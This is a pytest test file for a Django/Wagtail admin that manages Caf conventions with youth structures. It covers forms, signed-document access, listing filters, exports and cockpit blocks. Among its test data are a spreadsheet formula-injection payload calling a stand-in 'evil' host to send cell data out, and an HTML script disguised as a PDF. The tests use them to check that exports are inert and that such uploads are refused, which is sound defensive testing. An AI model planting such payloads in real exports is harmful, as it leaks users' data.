"""Conventions between the structures and the Caf (issue 12, item 1): the admin's form and its
checks, the signed document kept in a Coordination-only collection, the listing's filters, search,
inspect view and exports, and the two cockpit blocks."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from openpyxl import load_workbook
from wagtail.documents.models import Document
from wagtail.models import Collection

from network.coordination.conventions import (
    CONVENTIONS_COLLECTION,
    EndingConventionsBlock,
    PromeneursWithoutConventionBlock,
    conventions_collection,
    promeneurs_without_running_convention,
)
from network.coordination.models import Convention
from network.coordination.models.conventions import following_period, today
from network.directory.models import Promeneur
from tests.factories import PromeneurFactory, StructureFactory
from workspace.cockpit.blocks import forget_every_block

pytestmark = pytest.mark.django_db

C = "/admin/coordination/convention/"
ATTACK = '=HYPERLINK("http://evil/"&F2,"x")'
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def days(count):
    return today() + datetime.timedelta(days=count)


def make_convention(structure=None, start=-300, end=60, status=Convention.Status.RUNNING, **fields):
    structure = structure or StructureFactory()
    fields.setdefault("reference", f"CAF-{Convention.objects.count() + 1:03d}")
    return Convention.objects.create(
        structure=structure, start_date=days(start), end_date=days(end), status=status, **fields
    )


def form_data(structure, **overrides):
    data = {
        "reference": "CAF-2026-01",
        "structure": structure.pk,
        "start_date": "2026-01-01",
        "end_date": "2026-12-31",
        "status": "signee",
        "weekly_hours": "6",
        "amount": "4500.50",
        "notes": "",
    }
    return data | overrides


# --- The form ------------------------------------------------------------------------------------


def test_the_coordination_creates_a_convention_with_its_promeneurs_and_signed_document(client_as):
    structure = StructureFactory(name="MJC de Prades")
    lucie, paul = PromeneurFactory(structure=structure), PromeneurFactory(structure=structure)
    upload = SimpleUploadedFile("convention.pdf", PDF, "application/pdf")
    response = client_as("coordination").post(
        C + "create/", form_data(structure, promeneurs=[lucie.pk, paul.pk], signed_file=upload)
    )
    assert response.status_code == 302
    convention = Convention.objects.get(reference="CAF-2026-01")
    assert set(convention.promeneurs.all()) == {lucie, paul}
    assert convention.amount == Decimal("4500.50") and convention.weekly_hours == Decimal(6)
    document = convention.signed_document
    assert document.collection.name == CONVENTIONS_COLLECTION
    assert document.title == "Convention CAF-2026-01 signée"


def test_an_end_before_the_start_is_refused_on_the_end_date_and_what_was_typed_is_kept(client_as):
    structure = StructureFactory()
    response = client_as("coordination").post(
        C + "create/", form_data(structure, start_date="2026-06-01", end_date="2026-01-31", notes="Note gardée")
    )
    assert response.status_code == 200
    form = response.context["form"]
    assert form.errors["end_date"] == ["La date de fin doit suivre la date de début : vérifiez les deux dates."]
    body = response.content.decode()
    assert "Note gardée" in body and 'value="CAF-2026-01"' in body
    assert not Convention.objects.exists()


def test_the_database_refuses_an_end_before_the_start_too():
    from django.db import IntegrityError, transaction

    with pytest.raises(IntegrityError), transaction.atomic():
        make_convention(start=10, end=5)


def test_a_duplicate_reference_or_a_negative_amount_get_a_french_message(client_as):
    structure = StructureFactory()
    make_convention(structure, reference="CAF-2026-01")
    response = client_as("coordination").post(C + "create/", form_data(structure, amount="-5"))
    errors = response.context["form"].errors
    assert errors["reference"] == ["Une convention porte déjà cette référence."]
    assert errors["amount"] == ["Le montant ne peut pas être négatif."]


@override_settings(WAGTAILDOCS_MAX_UPLOAD_SIZE=1024)
@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("outil.exe", b"MZ" + b"\0" * 100),
        ("tableau.xlsx", b"PK" + b"\0" * 100),
        ("gros.pdf", PDF + b"\0" * 2000),
        # A web page renamed .pdf: the extension is allowed, the content is not a PDF.
        ("convention.pdf", b"<!DOCTYPE html><html><script>alert(1)</script></html>"),
    ],
)
def test_a_signed_document_of_a_forbidden_type_or_size_is_refused(client_as, name, content):
    structure = StructureFactory()
    response = client_as("coordination").post(
        C + "create/", form_data(structure, signed_file=SimpleUploadedFile(name, content))
    )
    assert response.status_code == 200
    assert response.context["form"].errors["signed_file"]
    assert not Convention.objects.exists() and not Document.objects.exists()


def test_a_new_file_replaces_the_signed_document_and_the_form_links_the_current_one(client_as):
    convention = make_convention()
    client = client_as("coordination")
    upload = SimpleUploadedFile("signee.pdf", PDF)
    data = form_data(convention.structure, reference=convention.reference, signed_file=upload)
    assert client.post(f"{C}edit/{convention.pk}/", data).status_code == 302
    convention.refresh_from_db()
    first = convention.signed_document
    assert "Fichier actuel" in client.get(f"{C}edit/{convention.pk}/").content.decode()
    data = form_data(convention.structure, reference=convention.reference)
    assert client.post(f"{C}edit/{convention.pk}/", data).status_code == 302
    convention.refresh_from_db()
    assert convention.signed_document == first  # no new file: the document stays


# --- The collection of the signed documents ------------------------------------------------------


def test_the_collection_is_created_once_restricted_to_the_coordination():
    collection = conventions_collection()
    assert conventions_collection() == collection
    assert Collection.objects.filter(name=CONVENTIONS_COLLECTION).count() == 1
    restrictions = collection.get_view_restrictions()
    assert [r.restriction_type for r in restrictions] == ["groups"]
    assert [g.name for g in restrictions[0].groups.all()] == ["Coordination"]


def test_a_removed_restriction_is_put_back():
    collection = conventions_collection()
    collection.get_view_restrictions().delete()
    conventions_collection()
    assert collection.get_view_restrictions().count() == 1


@pytest.fixture
def signed_document(client_as):
    structure = StructureFactory()
    upload = SimpleUploadedFile("convention.pdf", PDF, "application/pdf")
    client_as("coordination").post(C + "create/", form_data(structure, signed_file=upload))
    return Convention.objects.get().signed_document


@pytest.mark.parametrize(
    ("role", "expected"),
    [("coordination", 200), ("promeneur", 403), ("pilotage", 403), ("financeurs", 403), ("anonymous", 302)],
)
def test_only_the_coordination_can_fetch_the_signed_document(client_as, signed_document, role, expected):
    response = client_as(role).get(signed_document.url)
    assert response.status_code == expected
    if role == "anonymous":
        assert response["Location"].startswith("/connexion/")


# --- The listing ---------------------------------------------------------------------------------


@pytest.fixture
def conventions():
    prades = StructureFactory(name="MJC de Prades")
    ceret = StructureFactory(name="Mission locale de Céret")
    return {
        "ending": make_convention(prades, reference="CAF-FIN", end=30),
        "running": make_convention(ceret, reference="CAF-LONG", end=300),
        "draft": make_convention(ceret, reference="CAF-PROJET", start=10, end=400, status=Convention.Status.DRAFT),
        "ended": make_convention(prades, reference="CAF-ANCIENNE", start=-800, end=-400, status="terminee"),
        "overdue": make_convention(prades, reference="CAF-OUBLIEE", start=-400, end=-3),
    }


def listed(response):
    assert response.status_code == 200
    return {convention.reference for convention in response.context["view"].queryset}


def test_filters_and_search(client_as, conventions):
    client = client_as("coordination")
    assert listed(client.get(C)) == {c.reference for c in conventions.values()}
    assert listed(client.get(C, {"status": "brouillon"})) == {"CAF-PROJET"}
    assert listed(client.get(C, {"fin": "bientot"})) == {"CAF-FIN", "CAF-OUBLIEE"}
    assert listed(client.get(C, {"fin": "en_vigueur"})) == {"CAF-FIN", "CAF-LONG"}
    assert listed(client.get(C, {"fin": "passee"})) == {"CAF-ANCIENNE", "CAF-OUBLIEE"}
    prades = conventions["ending"].structure
    assert listed(client.get(C, {"structure__id__exact": prades.pk})) == {"CAF-FIN", "CAF-ANCIENNE", "CAF-OUBLIEE"}
    assert listed(client.get(C, {"q": "Céret"})) == {"CAF-LONG", "CAF-PROJET"}


def test_the_listing_costs_the_same_queries_for_more_conventions(client_as, conventions, django_assert_max_num_queries):
    client = client_as("coordination")
    client.get(C)
    with django_assert_max_num_queries(60) as small:
        client.get(C)
    for index in range(20):
        convention = make_convention(reference=f"CAF-X{index}")
        convention.promeneurs.set([PromeneurFactory(structure=convention.structure)])
    with django_assert_max_num_queries(len(small.captured_queries)):
        client.get(C)


def test_the_inspect_view_shows_the_promeneurs_and_links_the_signed_document(client_as, signed_document):
    convention = Convention.objects.get()
    convention.promeneurs.set([PromeneurFactory(first_name="Jordi", last_name="Puig", user=None)])
    body = client_as("coordination").get(f"{C}inspect/{convention.pk}/").content.decode()
    assert "Jordi Puig" in body and signed_document.url in body


def test_the_exports_are_inert_and_keep_numbers_and_dates(client_as):
    structure = StructureFactory(name="MJC")
    convention = make_convention(structure, reference=ATTACK, notes="@SOMME(A1)", amount=Decimal("1200.50"))
    convention.promeneurs.set([PromeneurFactory(structure=structure, first_name="Anna", last_name="Soler", user=None)])
    client = client_as("coordination")
    response = client.get(C, {"export": "csv"})
    assert response["Content-Disposition"].startswith('attachment; filename="conventions')
    text = response.content.decode("utf-8-sig")
    header = text.splitlines()[0]
    assert header.startswith("Référence;Structure;Promeneurs couverts;Début;Fin")
    assert "'" + ATTACK.replace('"', '""') in text and "'@SOMME(A1)" in text and "Anna Soler" in text
    sheet = load_workbook(io.BytesIO(client.get(C, {"export": "xlsx"}).content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert [cell.data_type for cell in cells if cell.value == ATTACK] == ["s"]
    assert [cell.value for cell in cells if cell.value == 1200.5] == [1200.5]


def test_the_exports_write_empty_values_as_empty_cells_and_a_zero_or_no_as_such(client_as):
    """modeladmin wrote « - » for any false value, which the formula guard turned into « '- »: an
    empty cell, a zero amount and a convention without its signed document read "'-" in Excel."""
    make_convention(StructureFactory(name="MJC"), reference="CAF-ZERO", weekly_hours=Decimal(0), amount=Decimal(0))
    client = client_as("coordination")
    rows = list(csv.reader(io.StringIO(client.get(C, {"export": "csv"}).content.decode("utf-8-sig")), delimiter=";"))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert (row["Promeneurs couverts"], row["Notes"]) == ("", "")
    assert (row["Heures hebdomadaires engagées"], row["Montant (€)"], row["Document signé"]) == ("0,0", "0,00", "Non")
    sheet = load_workbook(io.BytesIO(client.get(C, {"export": "xlsx"}).content)).active
    values = dict(zip(*sheet.iter_rows(max_row=2, values_only=True), strict=True))
    assert (values["Notes"], values["Montant (€)"], values["Document signé"]) == (None, 0, "Non")


# --- The cockpit ---------------------------------------------------------------------------------


def test_the_ending_block_lists_conventions_in_force_ending_within_sixty_days(rf, users, conventions):
    request = rf.get("/admin/")
    request.user = users["coordination"]
    block = EndingConventionsBlock()
    assert list(block.get_queryset(request)) == [conventions["overdue"], conventions["ending"]]
    item = block.item(conventions["ending"])
    assert item.label == "MJC de Prades — CAF-FIN"
    assert item.url == f"{C}edit/{conventions['ending'].pk}/"
    assert "dans 30 jours" in item.detail
    assert "à renouveler ou à clore" in block.item(conventions["overdue"]).detail


def test_promeneurs_without_running_convention(users, conventions):
    covered = PromeneurFactory(structure=conventions["running"].structure, user=None)
    uncovered = PromeneurFactory(structure=StructureFactory(name="Sans convention"), user=None)
    only_draft = PromeneurFactory(structure=StructureFactory(name="Brouillon seulement"), user=None)
    make_convention(only_draft.structure, reference="CAF-B", status=Convention.Status.DRAFT)
    homeless = PromeneurFactory(structure=None, user=None)
    PromeneurFactory(structure=uncovered.structure, user=None, is_active=False)
    prades = PromeneurFactory(structure=conventions["ending"].structure, user=None)
    result = set(promeneurs_without_running_convention())
    assert covered not in result and prades not in result
    assert {uncovered, only_draft, homeless} <= result
    assert not any(not promeneur.is_active for promeneur in result)
    users_own = Promeneur.objects.get(user=users["promeneur"])
    assert users_own in result  # the role users' structure has no convention


def test_the_promeneurs_block_links_the_structure_conventions_or_the_promeneur(rf, users):
    request = rf.get("/admin/")
    request.user = users["coordination"]
    block = PromeneursWithoutConventionBlock()
    structure = StructureFactory(name="Maison des jeunes")
    item = block.item(PromeneurFactory(structure=structure, first_name="Léa", last_name="Roca", user=None))
    assert item.label == "Léa Roca" and f"structure__id__exact={structure.pk}" in item.url
    assert item.actions[0].url == C + f"create/?structure={structure.pk}"
    homeless = PromeneurFactory(structure=None, user=None)
    assert f"/admin/snippets/directory/promeneur/edit/{homeless.pk}/" == block.item(homeless).url


def cockpit(client):
    body = client.get("/admin/").content.decode()
    ending = Convention.objects.ending_soon().count()
    assert 'id="cockpit-conventions-ending"' in body and 'id="cockpit-promeneurs-without-convention"' in body
    assert f'{ending}<span class="w-sr-only"> éléments</span>' in body
    assert body.count(f"{C}edit/") == min(ending, EndingConventionsBlock.limit)
    assert "CAF-OUBLIEE" in body and "CAF-LONG" not in body
    return body


def test_the_cockpit_shows_both_blocks_at_two_sizes_for_the_same_queries(
    client_as, conventions, django_assert_max_num_queries
):
    client = client_as("coordination")
    cockpit(client)
    forget_every_block()  # the blocks are measured built, not read from the cache
    with django_assert_max_num_queries(80) as small:
        cockpit(client)
    for index in range(12):
        make_convention(StructureFactory(name=f"Structure {index}"), reference=f"CAF-S{index}", end=10 + index)
        PromeneurFactory(structure=StructureFactory(name=f"Autre {index}"), user=None)
    forget_every_block()
    with django_assert_max_num_queries(len(small.captured_queries)):
        body = cockpit(client)
    assert "Tout voir (14)" in body


def test_the_new_convention_link_opens_the_form_with_its_structure_chosen(client_as):
    structure = StructureFactory(name="Maison des jeunes de Thuir")
    client = client_as("coordination")
    body = client.get(C + f"create/?structure={structure.pk}").content.decode()
    assert "Maison des jeunes de Thuir" in body and f'value="{structure.pk}"' in body
    for unknown in ("999999", "abc", ""):
        response = client.get(C + f"create/?structure={unknown}")
        assert response.status_code == 200 and "Maison des jeunes de Thuir" not in response.content.decode()


def test_every_promeneur_without_a_convention_is_reachable_from_the_cockpit(client_as, users):
    structures = [StructureFactory(name=f"Structure sans convention {index}") for index in range(8)]
    for index, structure in enumerate(structures):
        PromeneurFactory(structure=structure, user=None, last_name=f"Promeneur{index:02d}")
    client = client_as("coordination")
    home = client.get("/admin/").content.decode()
    block = home.split('id="cockpit-promeneurs-without-convention"')[1].split("</section>")[0]
    count = promeneurs_without_running_convention().count()
    assert count > PromeneursWithoutConventionBlock.limit
    more = "/admin/cockpit/promeneurs-without-convention/"
    assert f'<a href="{more}">Tout voir ({count})</a>' in block
    page = client.get(more).content.decode()
    assert f"{count} au total" in page
    for index, structure in enumerate(structures):
        assert f"Promeneur{index:02d}" in page
        assert f"{C}create/?structure={structure.pk}" in page


@pytest.mark.parametrize("role", ["promeneur", "pilotage"])
def test_the_blocks_are_for_the_coordination_only(rf, users, role):
    request = rf.get("/admin/")
    request.user = users[role]
    assert not EndingConventionsBlock().is_shown(request)
    assert not PromeneursWithoutConventionBlock().is_shown(request)


# --- Renewing ------------------------------------------------------------------------------------


def test_an_ending_convention_is_renewed_from_the_cockpit_with_its_values_in_the_form(client_as, users):
    """« Renouveler » on the cockpit opens the create form filled with what the next convention
    keeps: structure, promeneurs still active, hours and amount, and the following period."""
    structure = StructureFactory(name="MJC de Prades")
    lucie = PromeneurFactory(structure=structure, user=None)
    gone = PromeneurFactory(structure=structure, user=None, is_active=False)
    ending = Convention.objects.create(
        reference="CAF-2027",
        structure=structure,
        start_date=datetime.date(2027, 1, 1),
        end_date=datetime.date(2027, 12, 31),
        status=Convention.Status.RUNNING,
        weekly_hours=Decimal(6),
        amount=Decimal("4500.50"),
    )
    ending.promeneurs.set([lucie, gone])
    client = client_as("coordination")
    url = f"{C}create/?renouvelle={ending.pk}"
    assert EndingConventionsBlock().item(ending).actions[0].url == url

    form = client.get(url).context["form"]

    assert form.initial["structure"] == structure.pk
    assert form.initial["promeneurs"] == [lucie.pk]
    # 2028 is a leap year: the next calendar year, not 365 days.
    assert (form.initial["start_date"], form.initial["end_date"]) == (
        datetime.date(2028, 1, 1),
        datetime.date(2028, 12, 31),
    )
    assert (form.initial["weekly_hours"], form.initial["amount"]) == (Decimal(6), Decimal("4500.50"))
    assert form.initial["notes"] == "Renouvellement de la convention CAF-2027."
    # An address naming no convention opens the empty form.
    assert client.get(f"{C}create/?renouvelle=99999999999").context["form"].initial["start_date"] is None


def test_the_following_period_keeps_whole_months_or_else_days():
    assert following_period(datetime.date(2026, 3, 15), datetime.date(2026, 9, 14)) == (
        datetime.date(2026, 9, 15),
        datetime.date(2027, 3, 14),
    )
    assert following_period(datetime.date(2024, 5, 1), datetime.date(2026, 4, 30)) == (
        datetime.date(2026, 5, 1),
        datetime.date(2028, 4, 30),
    )
    # Not whole months: as many days.
    assert following_period(datetime.date(2026, 3, 10), datetime.date(2026, 3, 19)) == (
        datetime.date(2026, 3, 20),
        datetime.date(2026, 3, 29),
    )
